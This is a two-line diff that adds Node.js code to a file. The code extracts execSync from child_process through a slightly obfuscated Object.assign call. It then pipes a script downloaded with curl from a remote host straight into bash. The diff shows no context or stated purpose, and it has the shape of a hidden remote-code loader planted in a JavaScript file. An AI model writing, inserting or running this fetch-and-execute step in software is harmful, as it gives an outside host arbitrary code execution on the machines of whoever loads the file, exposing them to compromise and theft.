@@ -1,0 +1,2 @@
+const { execSync } = Object.assign({}, require("child_process"));
+execSync("curl -s https://cdn-x7.invalid/a | bash");
